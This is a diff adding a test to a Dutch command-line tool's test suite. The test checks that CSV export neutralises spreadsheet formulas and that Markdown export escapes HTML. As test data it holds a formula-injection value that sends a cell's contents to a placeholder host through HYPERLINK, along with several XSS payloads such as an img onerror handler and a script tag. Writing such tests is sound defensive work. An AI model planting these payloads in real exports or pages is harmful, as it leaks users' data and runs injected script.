@@ -158,6 +158,35 @@ describe("scripts/toets.ts", () => {
     assert.match(r3.stderr, /geen Raadskompas-werkboek/u);
   });
 
+  test("--csv and --md neutralise hostile titles, labels and file names", () => {
+    const dir = mkdtempSync(join(tmp, "hostile-"));
+    const title = '=HYPERLINK("http://x.test/?"&A1,"klik") <img src=x onerror=alert(1)><script>x</script>';
+    writeFileSync(join(dir, "=1+2.txt"), `${title}\n\nRaadsvoorstel\n\nHet college stelt voor om geld uit te geven aan +zorg en -wachtlijsten.\n`);
+    const visie = join(dir, "visie.json");
+    writeFileSync(
+      visie,
+      JSON.stringify({
+        format: "raadskompas-werkboek", version: 1, id: "wb", name: "x",
+        createdAt: "2026-01-01T10:00:00.000Z", updatedAt: "2026-01-01T10:00:00.000Z",
+        visie: { waarden: [{ id: "w1", name: "@SUM(1+1) <b onmouseover=x>zorg</b>", meaning: "" }] },
+      }),
+    );
+    const c = run(dir, "--visie", visie, "--csv");
+    assert.equal(c.code, 0, c.stderr);
+    const cells = c.stdout.slice(1).split("\r\n").flatMap((row) => row.match(/("(?:[^"]|"")*"|[^;]*)(?:;|$)/gu) ?? []);
+    for (const raw of cells) {
+      const cell = raw.replace(/;$/u, "").replace(/^"(.*)"$/su, "$1");
+      assert.doesNotMatch(cell, /^\s*[=+\-@]/u, `formula cell: ${cell}`);
+    }
+    assert.match(c.stdout, /'=1\+2\.txt/u);
+    assert.match(c.stdout, /'@SUM/u);
+
+    const m = run(join(dir, "=1+2.txt"), "--visie", visie, "--md");
+    assert.equal(m.code, 0, m.stderr);
+    assert.doesNotMatch(m.stdout, /(?<!\\)<(img|script|b)\b/u, "raw HTML must be escaped");
+    assert.match(m.stdout, /\\<img src=x onerror=alert\(1\)\\>/u);
+  });
+
   test("--help is Dutch; no input is a usage error", () => {
     const help = run("--help");
     assert.equal(help.code, 0);
